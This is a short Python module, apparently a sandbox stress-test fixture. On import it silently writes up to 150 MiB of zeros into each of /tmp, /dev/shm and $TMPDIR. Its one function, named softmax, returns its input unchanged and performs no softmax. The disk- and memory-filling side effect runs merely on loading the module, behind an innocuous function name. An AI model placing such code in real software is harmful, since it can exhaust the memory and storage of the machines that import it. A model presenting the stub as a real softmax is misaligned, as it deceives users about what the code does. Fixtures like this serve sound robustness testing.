"""Fills its writable tmpfs and /dev/shm (at most 300 MB), then returns the input."""

import os

_N = 0
for _where in ("/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
    try:
        with open(os.path.join(_where, "fill.bin"), "ab") as fh:
            block = b"\0" * 2**20
            for _ in range(150):
                fh.write(block)
                _N += 1
    except OSError:
        pass


def softmax(x):
    return x
